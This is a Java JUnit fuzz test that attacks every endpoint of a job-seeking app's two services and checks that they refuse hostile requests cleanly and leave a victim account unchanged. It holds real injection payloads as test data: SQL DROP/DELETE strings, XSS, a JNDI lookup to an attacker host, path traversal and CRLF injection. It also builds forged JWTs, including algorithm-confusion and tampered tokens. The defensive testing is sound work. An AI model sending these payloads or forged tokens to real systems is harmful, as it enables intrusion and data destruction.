package app.ghostresume.system;

import java.nio.charset.StandardCharsets;
import java.security.KeyFactory;
import java.security.KeyPairGenerator;
import java.security.interfaces.RSAPrivateKey;
import java.security.spec.PKCS8EncodedKeySpec;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.function.Function;

import app.ghostresume.stack.EmbeddedPostgresServer;
import app.ghostresume.stack.LocalStack;
import app.ghostresume.stack.testing.ApiOperations;
import app.ghostresume.stack.testing.HttpApi;
import app.ghostresume.stack.testing.HttpApi.Answer;
import app.ghostresume.system.RunningSystem.Seeker;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.PlainJWT;
import com.nimbusds.jwt.SignedJWT;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A fuzzer aimed at every endpoint of both services: wrong types, missing and unknown fields (including a forged
 * {@code seekerId}), huge, empty, deeply nested and non-JSON bodies, control characters, SQL and script fragments,
 * hostile path and query parameters, and forged, expired, unsigned and foreign tokens. The cases come from a
 * fixed seed, so a failure reproduces; {@code -Dghost.fuzz.seed} and {@code -Dghost.fuzz.cases} explore more.
 * Beside the hand-written attack surface below, every operation of both services' OpenAPI documents is fuzzed
 * from its own schemas ({@link SchemaFuzzer}), so a new endpoint is attacked as soon as it is documented; those
 * answers must also be ones the document describes ({@link ApiContract}).
 *
 * <p>What must hold: no answer is a 5xx; a refused request (4xx) writes no event at all; a bad token is always
 * 401; hostile text that is accepted comes back verbatim; the victim's data never changes; and the attacker's own
 * read models hold exactly the events the event store holds for them.
 */
class HostileInputTest {

    private static final RunningSystem system = RunningSystem.get();
    private static final long SEED = Long.getLong("ghost.fuzz.seed", 20261122L);
    private static final int CASES = Integer.getInteger("ghost.fuzz.cases", 25);

    /** Strings that have broken parsers, databases and browsers before. */
    private static final List<String> HOSTILE_TEXT = List.of("", " ", "'", "\"", "' OR '1'='1", "1; DROP TABLE attempt_board; --",
            "'); DELETE FROM domain_event_entry; --", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
            "${jndi:ldap://attacker/x}", "#{7*7}", "{{7*7}}", "../../../../etc/passwd", "%00", "\u0000", "a\u0000b",
            "\u0007\u001b[31m", "\r\nSet-Cookie: x=y", "\u202Egnp.exe", "\uD83D\uDE00\uD83D\uDC7B", "\uFEFF",
            "\uDC00", "null", "NaN", "-1", "1e309", "9".repeat(400), "x".repeat(5001), "é".repeat(201));

    /** A value of each JSON type, to put where another type belongs. */
    private static final List<Object> WRONG_TYPES = List.of(42, -1, 3.14, true, List.of(), List.of("a", 1),
            Map.of(), Map.of("nested", Map.of("x", 1)), "not-a-date", "2026-02-30", "99999-01-01", "WRONG_ENUM",
            Long.MAX_VALUE);

    private static final String DEEP = "[".repeat(5000) + "]".repeat(5000);

    private static Seeker mallory;
    private static Seeker victim;
    /** Mallory's own goal, pause, attempt and challenge, and the victim's, by the path variable naming them. */
    private static final Map<String, String> mine = new LinkedHashMap<>();
    private static final Map<String, String> theirs = new LinkedHashMap<>();
    private static JsonNode victimBoard;
    private static long victimEvents;

    @BeforeAll
    static void twoSeekers() {
        system.awaitConsumerGroupSettled(1);
        mallory = system.newSeeker("mallory", "UTC");
        victim = system.newSeeker("victim", "Europe/Paris");
        ownThings(mallory, mine);
        ownThings(victim, theirs);
        mine.put("othershare", theirs.get("share"));
        theirs.put("othershare", mine.get("share"));
        RunningSystem.awaitCount("victim's attempts projected", () -> system.querySideCount(
                "SELECT count(*) FROM attempt_board WHERE seeker_id = ?", victim.id()), 2, Duration.ofSeconds(30));
        victimBoard = board(victim);
        victimEvents = storedEventsOf(victim);
    }

    @Test
    void hostileBodiesPathsAndParametersAreRefusedCleanlyAndWriteNothing() {
        Random random = new Random(SEED);
        List<String> failures = new ArrayList<>();
        int sent = 0;
        for (Endpoint endpoint : endpoints()) {
            for (int i = 0; i < CASES; i++) {
                Case hostile = endpoint.mutate(random);
                long before = lastEventIndex();
                Answer answer = hostile.send(mallory.token());
                sent++;
                String what = hostile + " → " + abbreviate(answer.toString());
                if (answer.status() >= 500) {
                    failures.add("5xx: " + what);
                }
                else if (answer.status() >= 400) {
                    if (lastEventIndex() != before) {
                        failures.add("refused but wrote: " + what);
                    }
                    if (!answer.header("Content-Type").startsWith("application/problem+json")) {
                        failures.add("not a problem: " + what);
                    }
                }
            }
        }
        assertThat(failures).as("%d hostile requests, seed %d", sent, SEED).isEmpty();
        assertTheVictimIsUntouchedAndMallorysReadModelsMatchTheStore();
    }

    @Test
    void everyDocumentedOperationIsFuzzedFromItsOwnSchemasAndAnswersAsDocumented() {
        Random random = new Random(SEED);
        List<String> failures = new ArrayList<>();
        int sent = 0;
        for (boolean commandSide : List.of(true, false)) {
            HttpApi service = commandSide ? system.commands : system.queries;
            String name = commandSide ? "command-service" : "query-service";
            JsonNode document = service.get("/v3/api-docs").send().body();
            ApiContract contract = ApiContract.of(name, service);
            Map<String, List<SchemaFuzzer.Request>> operations = new SchemaFuzzer(service, document,
                    HostileInputTest::pathValue).requests(random, Math.max(4, CASES / 3));
            assertThat(operations.keySet()).as(name).isEqualTo(ApiOperations.documented(document))
                    .hasSizeGreaterThan(25);
            for (List<SchemaFuzzer.Request> requests : operations.values()) {
                for (SchemaFuzzer.Request request : requests) {
                    long before = lastEventIndex();
                    Answer answer = request.send(mallory.token());
                    sent++;
                    String what = name + " " + request + " → " + abbreviate(answer.toString());
                    if (answer.status() >= 500) {
                        failures.add("5xx: " + what);
                    }
                    else if (answer.status() >= 400) {
                        if (lastEventIndex() != before) {
                            failures.add("refused but wrote: " + what);
                        }
                        if (!String.valueOf(answer.header("Content-Type")).startsWith("application/problem+json")) {
                            failures.add("not a problem: " + what);
                        }
                    }
                    contract.violations(request.method, request.path(), answer)
                            .forEach(violation -> failures.add("not as documented: " + abbreviate(violation)));
                }
            }
        }
        assertThat(failures).as("%d requests drawn from the documents, seed %d", sent, SEED).isEmpty();
        assertTheVictimIsUntouchedAndMallorysReadModelsMatchTheStore();
    }

    /** Mallory's own things, by the name a document gives the path variable naming them. */
    private static String pathValue(String variable) {
        return switch (variable) {
            case "attemptId" -> mine.get("attempt");
            case "goalId" -> mine.get("goal");
            case "pauseId" -> mine.get("pause");
            case "challengeId" -> mine.get("challenge");
            case "shareId" -> mine.get("share");
            case "handle" -> mallory.handle();
            case "targetKey" -> "initech";
            case "period" -> "2026-W01";
            case "kind" -> "HUG";
            default -> null;
        };
    }

    @Test
    void hostileTextThatIsAcceptedComesBackVerbatim() {
        for (String text : HOSTILE_TEXT) {
            if (text.equals("\uDC00")) {
                continue; // a lone surrogate cannot even be encoded as UTF-8 by the client
            }
            Answer logged = system.commands.post("/api/attempts", Map.of("category", "OTHER", "target", "T",
                    "title", "T", "notes", text)).token(mallory.token()).send();
            assertThat(logged.status()).as(escaped(text) + " " + logged).isLessThan(500);
            if (logged.status() == 201) {
                Answer detail = system.queries.get("/api/me/attempts/" + logged.body().get("attemptId").asString())
                        .token(mallory.token()).header("Consistency-Token",
                                logged.body().get("consistencyToken").asString())
                        .send();
                assertThat(detail.status()).as(detail.toString()).isEqualTo(200);
                assertThat(detail.body().get("notes").asString()).as(escaped(text)).isEqualTo(text);
            }
        }
        assertTheVictimIsUntouchedAndMallorysReadModelsMatchTheStore();
    }

    @Test
    void everyBadTokenIsA401AtEveryEndpoint() throws Exception {
        Map<String, String> tokens = badTokens();
        List<String> failures = new ArrayList<>();
        for (Endpoint endpoint : endpoints()) {
            if (!endpoint.authenticated) {
                continue;
            }
            for (Map.Entry<String, String> token : tokens.entrySet()) {
                long before = lastEventIndex();
                Case valid = endpoint.valid();
                Answer answer = valid.send(token.getValue());
                // The query side may not know a brand-new seeker yet, so a well-signed token for a seeker it has
                // never seen reads an empty account there; the command side knows every account. A well-signed token
                // that names no operator may also be refused as not allowed (403) by the operator API, which checks
                // the token's scope before anything else.
                boolean refused = answer.status() == 401 || token.getKey().equals("unknown-seeker")
                        && endpoint.service == system.queries && answer.status() < 500
                        || endpoint.path.startsWith("/api/operator/") && answer.status() == 403;
                if (!refused || lastEventIndex() != before) {
                    failures.add(token.getKey() + " token: " + valid + " → " + abbreviate(answer.toString()));
                }
            }
        }
        assertThat(failures).isEmpty();
    }

    // --- the attack surface

    private static List<Endpoint> endpoints() {
        Map<String, Object> attempt = new LinkedHashMap<>(Map.of("category", "PITCH", "target", "Outlet",
                "title", "Pitch", "notes", "n", "sentOn", today(), "expectedResponseBy", today()));
        return List.of(
                Endpoint.command("POST", "/api/accounts", false, Map.of("handle", "fuzz-" + UUID.randomUUID()
                        .toString().substring(0, 8), "password", "correct horse battery", "displayName", "F",
                        "timeZone", "UTC")),
                Endpoint.command("POST", "/api/sessions", false, Map.of("handle", mallory.handle(),
                        "password", "correct horse battery")),
                Endpoint.command("POST", "/api/attempts", true, attempt),
                Endpoint.command("POST", "/api/attempts/{attempt}/progress", true,
                        Map.of("stage", "call", "on", today(), "notes", "n")),
                Endpoint.command("POST", "/api/attempts/{attempt}/rejection", true,
                        Map.of("receivedOn", today(), "stageReached", "s", "feedback", "f", "sting", 3)),
                Endpoint.command("POST", "/api/attempts/{attempt}/acceptance", true,
                        Map.of("receivedOn", today(), "notes", "n")),
                Endpoint.command("POST", "/api/attempts/{attempt}/ghosting", true, Map.of("declaredOn", today())),
                Endpoint.command("POST", "/api/attempts/{attempt}/withdrawal", true,
                        Map.of("on", today(), "reason", "r")),
                Endpoint.command("PATCH", "/api/attempts/{attempt}", true, attempt),
                Endpoint.query("/api/me/attempts", Map.of("status", "WAITING", "category", "PITCH", "limit", "5",
                        "cursor", "abc")),
                Endpoint.query("/api/me/attempts/{attempt}", Map.of()),
                Endpoint.query("/api/me/stats", Map.of("from", today(), "to", today(), "category", "JOB")),
                Endpoint.query("/api/me/timeline", Map.of("limit", "5", "cursor", "abc")),
                Endpoint.command("POST", "/api/attempts/{attempt}/follow-up", true, Map.of("on", today())),
                Endpoint.command("POST", "/api/goals", true, Map.of("metric", "REJECTIONS", "category", "PITCH",
                        "target", 3, "period", "CUSTOM", "startsOn", today(), "endsOn", today())),
                Endpoint.command("PATCH", "/api/goals/{goal}", true, Map.of("target", 4)),
                Endpoint.command("DELETE", "/api/goals/{goal}", true, null),
                Endpoint.command("POST", "/api/me/pauses", true, Map.of("from", today(), "to", today(),
                        "reason", "rest")),
                Endpoint.command("DELETE", "/api/me/pauses/{pause}", true, null),
                Endpoint.command("PUT", "/api/me/settings", true, Map.of("ghostingDays", Map.of("PITCH", 20),
                        "followUpDays", Map.of("PITCH", 5))),
                Endpoint.command("POST", "/api/challenges", true, Map.of("name", "Hostile", "description", "d",
                        "startsOn", today(), "endsOn", today(), "goal", Map.of("metric", "REJECTIONS",
                                "category", "PITCH", "target", 3, "per", "WEEK"), "visibility", "PUBLIC")),
                Endpoint.command("POST", "/api/challenges/{challenge}/members", true, Map.of("inviteCode", "ABCD2345")),
                Endpoint.command("DELETE", "/api/challenges/{challenge}/members/me", true, null),
                Endpoint.query("/api/me/goals", Map.of("includeRetired", "true")),
                Endpoint.query("/api/me/streaks", Map.of()),
                Endpoint.query("/api/me/pauses", Map.of()),
                Endpoint.query("/api/me/settings", Map.of()),
                Endpoint.query("/api/me/reminders", Map.of()),
                Endpoint.query("/api/challenges/{challenge}", Map.of()),
                Endpoint.query("/api/challenges", Map.of("mine", "true", "limit", "5", "cursor", "abc")),
                Endpoint.command("POST", "/api/attempts/{attempt}/reflections", true, Map.of("whatHappened", "w",
                        "whatILearned", "l", "nextTime", "n", "wasItPersonal", "UNSURE")),
                Endpoint.command("PUT", "/api/me/profile", true, Map.of("publicGhostResume", true)),
                Endpoint.command("POST", "/api/attempts/{rejected}/shares", true, Map.of("story", "s",
                        "anonymous", true, "audience", "PUBLIC")),
                Endpoint.command("DELETE", "/api/shares/{share}", true, null),
                Endpoint.command("POST", "/api/shares/{othershare}/support", true, Map.of("kind", "HUG",
                        "message", "m")),
                Endpoint.command("DELETE", "/api/shares/{othershare}/support/HUG", true, null),
                Endpoint.command("POST", "/api/shares/{othershare}/reports", true, Map.of("reason", "r")),
                Endpoint.query("/api/me/reflections", Map.of("limit", "5", "cursor", "abc")),
                Endpoint.query("/api/me/resilience", Map.of()),
                Endpoint.query("/api/feed", Map.of("limit", "5", "cursor", "abc")),
                Endpoint.query("/api/challenges/{challenge}/feed", Map.of("limit", "5", "cursor", "abc")),
                Endpoint.query("/api/shares/{othershare}", Map.of()),
                Endpoint.query("/api/me/shares", Map.of("limit", "5", "cursor", "abc")),
                Endpoint.query("/api/me/ghost-resume", Map.of()),
                Endpoint.query("/api/me/export", Map.of()),
                Endpoint.query("/api/me/reports/2026-W01", Map.of("asOf", "2026-01-01T00:00:00Z", "format", "csv")),
                Endpoint.query("/api/challenges/{challenge}/report", Map.of("asOf", "2026-01-01T00:00:00Z",
                        "format", "html")),
                // an import takes a spreadsheet, not JSON: whatever JSON comes is refused before it is read
                Endpoint.command("POST", "/api/me/imports", true, Map.of("company", "Acme", "applied", today())),
                // made public by its seeker: for anyone with the link, no token needed
                new Endpoint(system.queries, "GET", "/api/seekers/{handle}/ghost-resume", false, null, Map.of()),
                Endpoint.query("/api/targets", Map.of("query", "ini", "limit", "5")),
                Endpoint.query("/api/targets/{targetKey}", Map.of()),
                Endpoint.command("POST", "/api/operator/shares/{share}/review", true, Map.of("decision", "RESTORE",
                        "note", "n")),
                Endpoint.query("/api/operator/shares", Map.of("limit", "5")),
                Endpoint.query("/api/operator/read-models", Map.of()),
                Endpoint.query("/api/operator/read-models/rebuild", Map.of()),
                Endpoint.command("POST", "/api/operator/keys/rotation", true, null),
                // erasure with a password that is never Mallory's: whatever else comes, nothing is erased
                Endpoint.command("DELETE", "/api/me", true, Map.of("password", "not mallory's password")));
    }

    /** One endpoint and the valid request it is fuzzed from. */
    private record Endpoint(HttpApi service, String method, String path, boolean authenticated,
            Map<String, Object> body, Map<String, String> parameters) {

        static Endpoint command(String method, String path, boolean authenticated, Map<String, Object> body) {
            return new Endpoint(system.commands, method, path, authenticated, body, Map.of());
        }

        static Endpoint query(String path, Map<String, String> parameters) {
            return new Endpoint(system.queries, "GET", path, true, null, parameters);
        }

        Case valid() {
            return new Case(this, "valid", mine, body, parameters, Map.of());
        }

        Case mutate(Random random) {
            Map<String, String> ids = mine;
            Object body = this.body;
            Map<String, String> parameters = new LinkedHashMap<>(this.parameters);
            Map<String, String> headers = new LinkedHashMap<>();
            String kind;
            int choice = random.nextInt(path.contains("{") ? 10 : 9);
            if (this.body == null && choice < 7) {
                choice = 7; // nothing in the body to spoil: spoil its parameters
            }
            switch (choice) {
                case 0 -> {
                    String field = pick(random, List.copyOf(this.body.keySet()));
                    body = with(field, pick(random, WRONG_TYPES));
                    kind = "wrong type for " + field;
                }
                case 1 -> {
                    String field = pick(random, List.copyOf(this.body.keySet()));
                    body = with(field, pick(random, HOSTILE_TEXT));
                    kind = "hostile text in " + field;
                }
                case 2 -> {
                    String field = pick(random, List.copyOf(this.body.keySet()));
                    Map<String, Object> without = new LinkedHashMap<>(this.body);
                    without.remove(field);
                    body = without;
                    kind = "no " + field;
                }
                case 3 -> {
                    body = with(pick(random, List.of("seekerId", "attemptId", "status", "__proto__", "@class")),
                            pick(random, List.of(victim.id().toString(), theirs.get("attempt"), "ACCEPTED",
                                    "java.lang.ProcessBuilder")));
                    kind = "smuggled field";
                }
                case 4 -> {
                    body = pick(random, List.of("", "{", "}", "null", "[]", "42", "\"text\"", "{\"a\":}", DEEP,
                            "{\"title\":\"" + "x".repeat(3_000_000) + "\"}", "{\"title\":\"\\ud800\"}"));
                    kind = "broken body";
                }
                case 5 -> {
                    headers.put("Content-Type", pick(random, List.of("text/plain", "application/xml",
                            "application/x-www-form-urlencoded", "application/json; charset=ebcdic")));
                    kind = "content type";
                }
                case 6 -> {
                    headers.put("Idempotency-Key", pick(random, List.of(" ", "x".repeat(300), "\t",
                            "' OR 1=1 --", "é", UUID.randomUUID().toString())));
                    body = with(pick(random, List.copyOf(this.body.keySet())), pick(random, WRONG_TYPES));
                    kind = "idempotency key with a bad body";
                }
                case 7, 8 -> {
                    String parameter = parameters.isEmpty() ? "limit"
                            : pick(random, List.copyOf(parameters.keySet()));
                    Object value = random.nextBoolean() ? pick(random, HOSTILE_TEXT) : pick(random, WRONG_TYPES);
                    parameters.put(parameter, String.valueOf(value));
                    kind = "hostile parameter " + parameter;
                }
                default -> {
                    String id = pick(random, List.of("theirs", UUID.randomUUID().toString(), "not-a-uuid", "..",
                            "%2e%2e", "' OR 1=1", "x".repeat(3000), "00000000-0000-0000-0000-000000000000"));
                    ids = new LinkedHashMap<>();
                    for (String name : mine.keySet()) {
                        ids.put(name, id.equals("theirs") ? theirs.get(name) : id);
                    }
                    kind = "foreign or malformed id";
                }
            }
            return new Case(this, kind, ids, body, parameters, headers);
        }

        private Map<String, Object> with(String field, Object value) {
            Map<String, Object> changed = new LinkedHashMap<>(body == null ? Map.of() : body);
            changed.put(field, value);
            return changed;
        }
    }

    /** One request as it will be sent. */
    private record Case(Endpoint endpoint, String kind, Map<String, String> ids, Object body, Map<String, String> parameters,
            Map<String, String> headers) {

        Answer send(String token) {
            HttpApi.Call call = endpoint.service.request(endpoint.method,
                    SchemaFuzzer.expand(endpoint.path, ids, parameters), body);
            if (endpoint.authenticated && token != null) {
                call.token(token);
            }
            headers.forEach(call::header);
            return call.send();
        }

        @Override
        public String toString() {
            return endpoint.method + " " + endpoint.path + " [" + kind + "] "
                    + abbreviate(body == null ? "" : HttpApi.json(body)) + " " + abbreviate(parameters.toString());
        }
    }

    // --- tokens nobody should accept

    private static Map<String, String> badTokens() throws Exception {
        String[] parts = mallory.token().split("\\.");
        JsonNode header = decodeJson(parts[0]);
        JsonNode claims = decodeJson(parts[1]);
        String keyId = header.get("kid").asString();
        String issuer = claims.get("iss").asString();
        RSAPrivateKey realKey = realSigningKey();
        Function<JWTClaimsSet.Builder, JWTClaimsSet> base = builder -> builder.issuer(issuer)
                .subject(mallory.id().toString()).claim("handle", mallory.handle()).build();
        Instant now = Instant.now();

        KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
        generator.initialize(2048);
        Map<String, String> tokens = new LinkedHashMap<>();
        tokens.put("no", null);
        tokens.put("garbage", "not.a.token");
        tokens.put("empty", "");
        tokens.put("tampered", parts[0] + "." + Base64.getUrlEncoder().withoutPadding().encodeToString(
                claims.toString().replace(mallory.id().toString(), victim.id().toString())
                        .getBytes(StandardCharsets.UTF_8)) + "." + parts[2]);
        tokens.put("unsigned", new PlainJWT(base.apply(new JWTClaimsSet.Builder()
                .expirationTime(Date.from(now.plusSeconds(600))))).serialize());
        tokens.put("foreign-key", sign(new RSASSASigner(generator.generateKeyPair().getPrivate()), keyId,
                base.apply(new JWTClaimsSet.Builder().expirationTime(Date.from(now.plusSeconds(600))))));
        tokens.put("expired", sign(new RSASSASigner(realKey), keyId, base.apply(new JWTClaimsSet.Builder()
                .issueTime(Date.from(now.minusSeconds(7200))).expirationTime(Date.from(now.minusSeconds(3600))))));
        tokens.put("wrong-issuer", sign(new RSASSASigner(realKey), keyId, new JWTClaimsSet.Builder()
                .issuer("https://attacker.example").subject(mallory.id().toString())
                .expirationTime(Date.from(now.plusSeconds(600))).build()));
        SignedJWT hmac = new SignedJWT(new JWSHeader.Builder(JWSAlgorithm.HS256).keyID(keyId).build(),
                base.apply(new JWTClaimsSet.Builder().expirationTime(Date.from(now.plusSeconds(600)))));
        hmac.sign(new MACSigner("a-shared-secret-that-is-long-enough-for-hs256!!".getBytes(StandardCharsets.UTF_8)));
        tokens.put("hmac", hmac.serialize());
        tokens.put("unknown-seeker", sign(new RSASSASigner(realKey), keyId, new JWTClaimsSet.Builder()
                .issuer(issuer).subject(UUID.randomUUID().toString()).claim("handle", "ghost")
                .expirationTime(Date.from(now.plusSeconds(600))).build()));
        tokens.put("not-a-uuid-subject", sign(new RSASSASigner(realKey), keyId, new JWTClaimsSet.Builder()
                .issuer(issuer).subject("' OR 1=1 --").expirationTime(Date.from(now.plusSeconds(600))).build()));
        return tokens;
    }

    private static String sign(RSASSASigner signer, String keyId, JWTClaimsSet claims) throws Exception {
        SignedJWT jwt = new SignedJWT(new JWSHeader.Builder(JWSAlgorithm.RS256).keyID(keyId).build(), claims);
        jwt.sign(signer);
        return jwt.serialize();
    }

    /** The service's own key, read where it keeps it: only an insider could sign an expired token with it. */
    private static RSAPrivateKey realSigningKey() throws Exception {
        try (Connection db = DriverManager.getConnection(system.stack.postgres().jdbcUrl(LocalStack.COMMAND_DATABASE),
                EmbeddedPostgresServer.USER, EmbeddedPostgresServer.PASSWORD);
                PreparedStatement select = db.prepareStatement(
                        "SELECT value FROM server_secret WHERE name = 'jwt-private-key'");
                ResultSet rows = select.executeQuery()) {
            assertThat(rows.next()).as("the stored signing key").isTrue();
            return (RSAPrivateKey) KeyFactory.getInstance("RSA")
                    .generatePrivate(new PKCS8EncodedKeySpec(rows.getBytes(1)));
        }
    }

    private static JsonNode decodeJson(String base64Url) {
        return tools.jackson.databind.json.JsonMapper.builder().build()
                .readTree(Base64.getUrlDecoder().decode(base64Url));
    }

    // --- invariants and helpers

    private static void assertTheVictimIsUntouchedAndMallorysReadModelsMatchTheStore() {
        assertThat(storedEventsOf(victim)).isEqualTo(victimEvents);
        assertThat(board(victim)).isEqualTo(victimBoard);
        long stored = storedEventsOf(mallory);
        RunningSystem.awaitCount("mallory's projected events", () -> system.querySideCount(
                "SELECT count(*) FROM seeker_event WHERE seeker_id = ?", mallory.id()), stored,
                Duration.ofSeconds(60));
    }

    private static long storedEventsOf(Seeker seeker) {
        return system.commandSideCount("SELECT count(*) FROM domain_event_entry WHERE convert_from(payload, 'UTF8') "
                + "LIKE ?", "%\"seekerId\":\"" + seeker.id() + "\"%");
    }

    private static long lastEventIndex() {
        return system.commandSideCount("SELECT coalesce(max(global_index), 0) FROM domain_event_entry");
    }

    private static JsonNode board(Seeker seeker) {
        Answer answer = system.queries.get("/api/me/attempts?limit=100").token(seeker.token()).send();
        assertThat(answer.status()).as(answer.toString()).isEqualTo(200);
        return answer.body();
    }

    private static void ownThings(Seeker seeker, Map<String, String> ids) {
        LocalDate date = seeker.today();
        String today = date.toString();
        ids.put("attempt", created(seeker, "/api/attempts", Map.of("category", "JOB", "target", "Initech",
                "title", "Engineer", "sentOn", today), "attemptId"));
        ids.put("goal", created(seeker, "/api/goals", Map.of("metric", "REJECTIONS", "target", 3, "period", "WEEK",
                "startsOn", today), "goalId"));
        ids.put("pause", created(seeker, "/api/me/pauses", Map.of("from", date.plusDays(30).toString(),
                "to", date.plusDays(33).toString()), "pauseId"));
        ids.put("rejected", created(seeker, "/api/attempts", Map.of("category", "PITCH", "target", "Initech",
                "title", "Pitch", "sentOn", today), "attemptId"));
        Answer rejected = system.commands.post("/api/attempts/" + ids.get("rejected") + "/rejection",
                Map.of("receivedOn", today)).token(seeker.token()).send();
        assertThat(rejected.status()).as(rejected.toString()).isEqualTo(200);
        ids.put("share", created(seeker, "/api/attempts/" + ids.get("rejected") + "/shares", Map.of("story",
                "Shared by " + seeker.handle(), "anonymous", false, "audience", "PUBLIC"), "shareId"));
        ids.put("handle", seeker.handle());
        ids.put("targetKey", "initech");
        ids.put("challenge", created(seeker, "/api/challenges", Map.of("name", "Private", "startsOn", today,
                "endsOn", today, "goal", Map.of("metric", "ATTEMPTS", "target", 1, "per", "TOTAL"),
                "visibility", "INVITE"), "challengeId"));
    }

    private static String created(Seeker seeker, String path, Map<String, Object> body, String idField) {
        Answer answer = system.commands.post(path, body).token(seeker.token()).send();
        assertThat(answer.status()).as(path + " " + answer).isEqualTo(201);
        return answer.body().get(idField).asString();
    }

    private static String today() {
        return LocalDate.now(java.time.ZoneOffset.UTC).toString();
    }

    private static <T> T pick(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private static String escaped(String text) {
        StringBuilder out = new StringBuilder();
        text.codePoints().limit(40).forEach(c -> out.append(c < 0x20 || c > 0x7e ? "\\u%04x".formatted(c)
                : Character.toString(c)));
        return out.toString();
    }

    private static String abbreviate(String text) {
        String flat = text.replaceAll("\\p{Cntrl}", "?");
        return flat.length() <= 160 ? flat : flat.substring(0, 160) + "…(" + flat.length() + ")";
    }
}
